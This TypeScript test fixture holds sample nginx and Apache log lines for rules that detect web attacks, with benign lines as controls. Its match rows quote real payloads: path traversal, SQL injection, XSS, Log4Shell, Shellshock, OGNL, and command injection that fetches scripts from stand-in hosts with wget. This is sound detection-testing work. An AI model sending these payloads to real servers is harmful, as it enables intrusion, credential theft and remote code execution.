// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads spell ${…} lookups on purpose.
// Web attacks in access logs (nginx and Apache combined format, ngx_http_log_module.c / mod_log_config.c) and the
// servers' error-log lines. Access lines are tried bare and inside nginx's syslog output (`nginx: <line>`).
import type { MatchRow, NoMatchRow, PackTable } from './table.js';

const C = '203.0.113.50';
const UA = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
const access = (request: string, status = 404, agent = UA, client = C, user = '-') =>
  `${client} - ${user} [23/Nov/2026:10:15:01 +0000] "${request}" ${status} 153 "-" "${agent}"`;
const from = 'ngx_http_log_module.c combined: "$remote_addr - $remote_user [$time_local] \\"$request\\" $status …"';

const attack = (
  request: string,
  rule: string,
  detail: string | undefined,
  status = 404,
  agent = UA,
  why = '',
): MatchRow => ({
  line: access(request, status, agent),
  from: `${from}${why ? `; ${why}` : ''}`,
  rule,
  fields: { ip: C, ...(detail ? { detail } : {}) },
});

export const webAccessMatch: MatchRow[] = [
  // traversal and file inclusion
  attack('GET /static/../../etc/passwd HTTP/1.1', 'web-traversal', '../', 400),
  attack('GET /cgi/%2e%2e/%2e%2e/etc/shadow HTTP/1.1', 'web-traversal', '../', 400, UA, 'percent-encoded dots'),
  attack('GET /a/%252e%252e%252f%252e%252e%252fetc/passwd HTTP/1.1', 'web-traversal', '../', 400, UA, 'encoded twice'),
  attack('GET /img/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd HTTP/1.1', 'web-traversal', '../', 400, UA, 'overlong UTF-8'),
  attack('GET /app/..;/manager/html HTTP/1.1', 'web-traversal', '../', 404, UA, "Tomcat's ..;/"),
  attack('GET /download?file=....//....//etc/hosts HTTP/1.1', 'web-traversal', '....//', 200),
  attack('GET /view.php?page=..%5c..%5cwindows%5cwin.ini HTTP/1.1', 'web-traversal', '../', 200, UA, 'backslashes'),
  attack('GET /index.php?file=/etc/passwd HTTP/1.1', 'web-traversal', '/etc/passwd', 200),
  attack('GET /index.php?file=/proc/self/environ HTTP/1.1', 'web-traversal', '/proc/self', 200),
  attack('GET /?page=C:/Windows/win.ini HTTP/1.1', 'web-traversal', 'win.ini', 200),
  attack(
    'GET /index.php?page=php://filter/convert.base64-encode/resource=index HTTP/1.1',
    'web-traversal',
    'wrapper://',
    200,
  ),
  attack('GET /index.php?page=http://evil.example/shell.txt? HTTP/1.1', 'web-traversal', 'remote include', 200),
  attack('GET /fetch?url=http://169.254.169.254/latest/meta-data/ HTTP/1.1', 'web-traversal', 'cloud metadata', 200),
  attack('GET /WEB-INF/web.xml HTTP/1.1', 'web-traversal', 'web-inf', 404),
  // injection
  attack('GET /item.php?id=1%20UNION%20SELECT%201,2,database()-- HTTP/1.1', 'web-injection', 'sql: union select', 200),
  attack('GET /item.php?id=1+union+all+select+null,null HTTP/1.1', 'web-injection', 'sql: union select', 200),
  attack(
    'GET /item.php?id=1/**/UNION/**/SELECT/**/password/**/FROM/**/users HTTP/1.1',
    'web-injection',
    'sql: union select',
    200,
  ),
  attack("GET /login.php?user=admin'--&pass=x HTTP/1.1", 'web-injection', 'sql: quote comment', 200),
  attack("GET /search?q=1'%20or%20'1'='1 HTTP/1.1", 'web-injection', 'sql: tautology', 200),
  attack('GET /news?id=1%20AND%201=1 HTTP/1.1', 'web-injection', 'sql: tautology', 200),
  attack('GET /news?id=1%20AND%20SLEEP(5) HTTP/1.1', 'web-injection', 'sql: function', 200),
  attack('GET /news?id=1;WAITFOR%20DELAY%20%270:0:5%27 HTTP/1.1', 'web-injection', 'sql: waitfor delay', 200),
  attack(
    'GET /x?id=(select%20table_name%20from%20information_schema.tables) HTTP/1.1',
    'web-injection',
    'sql: schema',
    200,
  ),
  attack('GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1', 'web-injection', 'xss: tag', 200),
  attack('GET /search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E HTTP/1.1', 'web-injection', 'xss: tag', 200),
  attack('GET /redirect?to=javascript:alert(document.cookie) HTTP/1.1', 'web-injection', 'xss: javascript:', 200),
  attack('GET /cgi-bin/ping.cgi?ip=127.0.0.1;cat%20/etc/passwd HTTP/1.1', 'web-injection', 'command', 200),
  attack('GET /api/run?cmd=$(wget%20http://evil.example/x.sh) HTTP/1.1', 'web-injection', 'command', 200),
  attack('GET /api?host=x;${IFS}id HTTP/1.1', 'web-injection', 'command: $IFS', 200),
  attack('GET /shell?cd+/tmp;wget+http://192.0.2.9/mozi.m;chmod+777+mozi.m HTTP/1.1', 'web-injection', 'command', 404),
  attack('GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1', 'web-injection', 'log4shell', 200),
  attack(
    'GET / HTTP/1.1',
    'web-injection',
    'log4shell',
    200,
    '${${lower:j}${::-n}di:ldap://evil.example/a}',
    'Log4Shell in the User-Agent, obfuscated',
  ),
  attack('GET /?x=%24%7B%24%7Benv:NOPE:-j%7Dndi:rmi://evil.example/a%7D HTTP/1.1', 'web-injection', 'log4shell', 200),
  attack(
    'POST /login?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x HTTP/1.1',
    'web-injection',
    'spring4shell',
    200,
  ),
  attack(
    'GET /index.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{%27id%27})).start()} HTTP/1.1',
    'web-injection',
    'ognl',
    200,
  ),
  attack(
    'GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x HTTP/1.1',
    'web-injection',
    'thinkphp',
    200,
  ),
  attack(
    'GET /cgi-bin/status HTTP/1.1',
    'web-injection',
    'shellshock',
    200,
    '() { :; }; /bin/bash -c "id"',
    'Shellshock in the User-Agent',
  ),
  attack('GET /?name={{7*7}} HTTP/1.1', 'web-injection', 'template injection', 200),
  attack(
    'POST /cgi-bin/php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input HTTP/1.1',
    'web-injection',
    'php code',
    404,
  ),
  // probes
  attack('GET /.env HTTP/1.1', 'web-probe', 'dotfile', 404),
  attack('GET /.env HTTP/1.1', 'web-probe', 'dotfile', 200, UA, 'a dotfile served is a leak'),
  attack('GET /.git/config HTTP/1.1', 'web-probe', 'dotfile', 404),
  attack('GET /.aws/credentials HTTP/1.1', 'web-probe', 'dotfile', 404),
  attack('GET /.ssh/id_rsa HTTP/1.1', 'web-probe', 'dotfile', 404),
  attack('GET /.DS_Store HTTP/1.1', 'web-probe', 'dotfile', 404),
  attack('GET /wp-config.php.bak HTTP/1.1', 'web-probe', 'config backup', 404),
  attack('GET /phpmyadmin/index.php HTTP/1.1', 'web-probe', 'admin panel', 404),
  attack('GET /pma/ HTTP/1.1', 'web-probe', 'admin panel', 404),
  attack('GET /server-status HTTP/1.1', 'web-probe', 'server-status', 403),
  attack('GET /_ignition/execute-solution HTTP/1.1', 'web-probe', 'laravel ignition', 405),
  attack('GET /actuator/env HTTP/1.1', 'web-probe', 'spring actuator', 404),
  attack('GET /solr/admin/info/system HTTP/1.1', 'web-probe', 'solr admin', 404),
  attack('GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1', 'web-probe', 'phpunit', 404),
  attack('GET /wp-login.php HTTP/1.1', 'web-probe', 'wordpress', 404, UA, 'WordPress asked of a site without it'),
  attack('GET /backup.zip HTTP/1.1', 'web-probe', 'backup', 404),
  attack('GET /index.php~ HTTP/1.1', 'web-probe', 'backup', 404),
  attack('GET /c99.php HTTP/1.1', 'web-probe', 'webshell', 404),
  attack('GET /webmail/ HTTP/1.1', 'web-probe', 'webmail', 404),
  attack('GET /owa/auth/logon.aspx HTTP/1.1', 'web-probe', 'exchange/vpn', 404),
  // scanners
  attack(
    'GET / HTTP/1.1',
    'web-scanner',
    'user agent nikto',
    200,
    'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)',
  ),
  attack('GET /?id=1 HTTP/1.1', 'web-scanner', 'user agent sqlmap', 200, 'sqlmap/1.7.2#stable (https://sqlmap.org)'),
  attack('GET / HTTP/1.1', 'web-scanner', 'user agent zgrab', 200, 'Mozilla/5.0 zgrab/0.x'),
  attack(
    'GET / HTTP/1.1',
    'web-scanner',
    'user agent nuclei',
    200,
    'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))',
  ),
  attack(
    'GET / HTTP/1.1',
    'web-scanner',
    'user agent masscan',
    400,
    'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
  ),
  attack('GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1', 'web-scanner', 'w00tw00t', 400),
  attack('CONNECT www.example.com:443 HTTP/1.1', 'web-scanner', 'proxy probe', 405),
  attack('GET http://example.com/ HTTP/1.1', 'web-scanner', 'proxy probe', 200),
  // login brute force and 401s
  attack(
    'POST /wp-login.php HTTP/1.1',
    'web-login',
    'POST /wp-login.php',
    200,
    UA,
    'a failed WordPress login answers 200',
  ),
  attack('POST /xmlrpc.php HTTP/1.1', 'web-login', 'POST /xmlrpc.php', 200),
  attack('POST /user/login HTTP/1.1', 'web-login', 'POST /user/login', 403),
  attack('GET /admin/ HTTP/1.1', 'web-auth-401', '401', 401),
  {
    line: `${C} - admin [23/Nov/2026:10:15:01 +0000] "GET /private/ HTTP/1.1" 401 381 "-" "curl/8.5.0"`,
    from: `${from}; the attempted user is logged with the 401`,
    rule: 'web-auth-401',
    fields: { ip: C, user: 'admin', status: '401' },
  },
  {
    line: `example.com:443 2001:db8::5 - - [23/Nov/2026:10:15:01 +0000] "GET /.git/HEAD HTTP/1.1" 404 196 "-" "${UA}"`,
    from: 'Debian apache2.conf vhost_combined: "%v:%p %h %l %u %t \\"%r\\" %>s %O …", IPv6 client',
    rule: 'web-probe',
    fields: { ip: '2001:db8::5', detail: 'dotfile' },
  },
  {
    line: `${C} - - [23/Nov/2026:10:15:01 +0000] "GET /search?q=\\"%3E%3Cscript%3E HTTP/1.1" 200 5 "-" "${UA}"`,
    from: 'mod_log_config.c ap_escape_logitem(): a quote in %r written \\"',
    rule: 'web-injection',
    fields: { ip: C, detail: 'xss: tag' },
  },
  {
    line: `${C} - - [23/Nov/2026:10:15:01 +0000] "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03" 400 157 "-" "-"`,
    from: 'ngx_http_log_module.c escape=default: a TLS hello sent to the HTTP port, \\xHH-escaped',
    rule: 'web-scanner',
    fields: { ip: C, detail: 'binary request line' },
  },
];

export const webAccessNoMatch: NoMatchRow[] = [
  { line: access('GET / HTTP/1.1', 200), from },
  { line: access('GET /index.html HTTP/1.1', 304), from },
  { line: access('GET /favicon.ico HTTP/1.1', 404), from: `${from}; a missing favicon is no probe` },
  { line: access('GET /robots.txt HTTP/1.1', 404), from },
  { line: access('GET /apple-touch-icon.png HTTP/1.1', 404), from },
  { line: access('GET /.well-known/acme-challenge/abc HTTP/1.1', 200), from: `${from}; ACME challenges` },
  { line: access('GET /.well-known/security.txt HTTP/1.1', 404), from },
  { line: access('GET /search?q=wp-login.php HTTP/1.1', 200), from: `${from}; a scanned name in a query` },
  { line: access('GET /search?q=union+station+select+seats HTTP/1.1', 200), from: `${from}; words, not SQL` },
  { line: access('GET /search?q=rock%20and%20roll HTTP/1.1', 200), from },
  { line: access('GET /blog/2026/11/what-is-..-in-a-path HTTP/1.1', 200), from },
  { line: access('GET /api/items?fields=name|id|price HTTP/1.1', 200), from: `${from}; a column list` },
  { line: access('GET /docs/select-from-a-list HTTP/1.1', 200), from },
  { line: access('GET /wp-login.php HTTP/1.1', 200), from: `${from}; a WordPress site shows its login form` },
  { line: access('POST /wp-login.php HTTP/1.1', 302), from: `${from}; a successful WordPress login redirects` },
  { line: access('POST /login HTTP/1.1', 303), from: `${from}; a successful login redirects` },
  { line: access('POST /api/orders HTTP/1.1', 201), from },
  { line: access('GET /admin/ HTTP/1.1', 200), from: `${from}; an admin page that exists` },
  { line: access('GET /phpmyadmin/ HTTP/1.1', 200), from: `${from}; a phpMyAdmin that is installed` },
  { line: access('GET /static/app.js HTTP/1.1', 200, 'curl/8.5.0'), from },
  { line: access('GET /feed.xml HTTP/1.1', 200, 'Go-http-client/1.1'), from },
  {
    line: access('GET / HTTP/1.1', 200, 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'),
    from,
  },
  { line: access('GET /img/logo.svg HTTP/2.0', 200), from },
  { line: access('HEAD / HTTP/1.1', 200), from },
  { line: access('GET /download/report.pdf HTTP/1.1', 206), from },
  { line: access('OPTIONS /api/items HTTP/1.1', 204), from },
  { line: access('GET /docs/onboarding-guide HTTP/1.1', 200), from: `${from}; "on…" words that are no handlers` },
  { line: access('GET /products?sort=price&order=asc HTTP/1.1', 200), from },
  { line: access('GET /redirect?next=https://example.com/account HTTP/1.1', 302), from: `${from}; a redirect target` },
  { line: access('GET /a/b/c/../d HTTP/1.1', 200).replace('/c/../d', '/c/d'), from },
  {
    line: `${C} - - [23/Nov/2026:10:15:01 +0000] "-" 400 0 "-" "-"`,
    from: 'ngx_http_log_module.c: a connection closed before its request ("-")',
  },
  {
    line: `${C} - - [23/Nov/2026:10:15:01 +0000] "-" 408 - "-" "-"`,
    from: 'mod_log_config.c: an idle connection timing out ("-" 408)',
  },
];

const APACHE_24 = '[Mon Nov 23 10:15:01.123456 2026]';
const APACHE_22 = '[Mon Nov 23 10:15:01 2026]';
const NGINX = '2026/11/23 10:15:01';

export const webErrorMatch: MatchRow[] = [
  {
    line: `${NGINX} [error] 812#812: *5 user "admin": password mismatch, client: ${C}, server: example.com, request: "GET /admin HTTP/1.1", host: "example.com"`,
    from: 'ngx_http_auth_basic_module.c: "user \\"%V\\": password mismatch"',
    rule: 'nginx-auth',
    fields: { ip: C, user: 'admin' },
  },
  {
    line: `${NGINX} [error] 812#812: *6 user "bob" was not found in "/etc/nginx/.htpasswd", client: 2001:db8::9, server: _, request: "GET / HTTP/2.0"`,
    from: 'ngx_http_auth_basic_module.c: "user \\"%V\\" was not found in \\"%s\\""',
    rule: 'nginx-auth',
    fields: { ip: '2001:db8::9', user: 'bob' },
  },
  {
    line: `${NGINX} [error] 812#812: *7 open() "/usr/share/nginx/html/phpmyadmin/index.php" failed (2: No such file or directory), client: ${C}, server: example.com, request: "GET /phpmyadmin/index.php HTTP/1.1", host: "example.com"`,
    from: 'ngx_http_static_module.c: "%s \\"%s\\" failed" (2: No such file or directory), a probed path',
    rule: 'nginx-probe',
    fields: { ip: C },
  },
  {
    line: `${NGINX} [error] 812#812: *8 "/usr/share/nginx/html/wp-admin/index.html" is not found (2: No such file or directory), client: ${C}, server: example.com, request: "GET /wp-admin/ HTTP/1.1", host: "example.com"`,
    from: 'ngx_http_index_module.c: "\\"%s\\" is not found"',
    rule: 'nginx-probe',
    fields: { ip: C },
  },
  {
    line: `${NGINX} [error] 812#812: *9 limiting requests, excess: 10.560 by zone "perip", client: ${C}, server: example.com, request: "GET / HTTP/1.1", host: "example.com"`,
    from: 'ngx_http_limit_req_module.c: "limiting requests, excess: %ui.%03ui by zone \\"%V\\""',
    rule: 'nginx-flood',
    fields: { ip: C },
  },
  {
    line: `${NGINX} [error] 812#812: *10 FastCGI sent in stderr: "Primary script unknown" while reading response header from upstream, client: ${C}, server: example.com, request: "GET /shell.php HTTP/1.1", upstream: "fastcgi://unix:/run/php/php8.2-fpm.sock:", host: "example.com"`,
    from: 'ngx_http_fastcgi_module.c: "FastCGI sent in stderr: \\"%*s\\"" with PHP-FPM\'s "Primary script unknown"',
    rule: 'nginx-probe',
    fields: { ip: C },
  },
  {
    line: `${APACHE_24} [auth_basic:error] [pid 1234:tid 5678] [client ${C}:52114] AH01617: user admin: authentication failure for "/admin": Password Mismatch`,
    from: 'mod_auth_basic.c: "AH01617: user %s: authentication failure for \\"%s\\": Password Mismatch"',
    rule: 'apache-auth',
    fields: { ip: C, user: 'admin' },
  },
  {
    line: `${APACHE_24} [auth_basic:error] [pid 1234] [client 2001:db8::9:52114] AH01618: user eve not found: /private`,
    from: 'mod_auth_basic.c: "AH01618: user %s not found: %s", IPv6 with its port',
    rule: 'apache-auth',
    fields: { ip: '2001:db8::9', user: 'eve' },
  },
  {
    line: `${APACHE_22} [error] [client ${C}] user admin: authentication failure for "/": Password Mismatch`,
    from: 'mod_auth_basic.c (2.2): "user %s: authentication failure for \\"%s\\": Password Mismatch"',
    rule: 'apache-auth',
    fields: { ip: C, user: 'admin' },
  },
  {
    line: `${APACHE_24} [auth_digest:error] [pid 1] [client ${C}:1] AH01790: user \`bob' in realm \`private' not found: /digest/`,
    from: 'mod_auth_digest.c: "AH01790: user `%s\' in realm `%s\' not found: %s"',
    rule: 'apache-auth',
    fields: { ip: C },
  },
  {
    line: `${APACHE_24} [authz_core:error] [pid 1] [client ${C}:1] AH01630: client denied by server configuration: /var/www/html/.htpasswd`,
    from: 'mod_authz_core.c: "AH01630: client denied by server configuration: %s%s"',
    rule: 'apache-auth',
    fields: { ip: C },
  },
  {
    line: `${APACHE_24} [core:info] [pid 1] [client ${C}:1] AH00128: File does not exist: /var/www/html/.env`,
    from: 'httpd core: "AH00128: File does not exist: %s", a probed path',
    rule: 'apache-probe',
    fields: { ip: C },
  },
  {
    line: `${APACHE_22} [error] [client ${C}] script not found or unable to stat: /usr/lib/cgi-bin/php5`,
    from: 'mod_cgi.c: "script not found or unable to stat: %s"',
    rule: 'apache-probe',
    fields: { ip: C },
  },
  {
    line: `${APACHE_24} [core:error] [pid 17408] [client ${C}:55280] AH00126: Invalid URI in request GET /static/../../../a/../../etc/passwd HTTP/1.1`,
    from: 'server/protocol.c: "AH00126: Invalid URI in request %s"',
    rule: 'apache-scanner',
    fields: { ip: C },
  },
  {
    line: `${APACHE_24} [cgi:error] [pid 16860] [client ${C}:59635] AH01215: /bin/bash: warning: HTTP_TEST: ignoring function definition attempt`,
    from: 'mod_cgi.c "AH01215: %s" with bash\'s Shellshock warning',
    rule: 'apache-injection',
    fields: { ip: C, detail: 'shellshock' },
  },
  {
    line: `${APACHE_24} [:error] [pid 22406:tid 139985298601728] [client ${C}:47762] [client ${C}] ModSecurity: Access denied with code 403 (phase 2). Pattern match "union select" at ARGS:id. [id "942100"] [msg "SQL Injection"] [uri "/item.php"]`,
    from: 'ModSecurity apache2_util.c: "ModSecurity: %s" with "Access denied with code %d (phase %d)"',
    rule: 'apache-waf',
    fields: { ip: C },
  },
];

export const webErrorNoMatch: NoMatchRow[] = [
  {
    line: `${NGINX} [error] 812#812: *7 open() "/usr/share/nginx/html/favicon.ico" failed (2: No such file or directory), client: 10.0.0.5, server: example.com, request: "GET /favicon.ico HTTP/1.1"`,
    from: 'ngx_http_static_module.c: a missing favicon',
  },
  {
    line: `${NGINX} [notice] 800#800: signal process started`,
    from: 'nginx os/unix/ngx_process_cycle.c',
  },
  {
    line: `${NGINX} [error] 812#812: *11 upstream timed out (110: Connection timed out) while reading response header from upstream, client: 10.0.0.5, server: example.com, request: "GET /api HTTP/1.1"`,
    from: 'ngx_http_upstream.c',
  },
  {
    line: `${APACHE_24} [mpm_event:notice] [pid 800:tid 1] AH00489: Apache/2.4.62 (Debian) configured -- resuming normal operations`,
    from: 'httpd mpm: AH00489',
  },
  {
    line: `${APACHE_24} [core:info] [pid 1] [client 10.0.0.5:1] AH00128: File does not exist: /var/www/html/favicon.ico`,
    from: 'httpd core: a missing favicon',
  },
  {
    line: `${APACHE_24} [ssl:warn] [pid 800:tid 1] AH01909: www.example.com:443:0 server certificate does NOT include an ID which matches the server name`,
    from: 'mod_ssl: AH01909',
  },
];

export const webTable: PackTable = {
  pack: 'web',
  programs: [],
  match: webAccessMatch,
  noMatch: webAccessNoMatch,
};
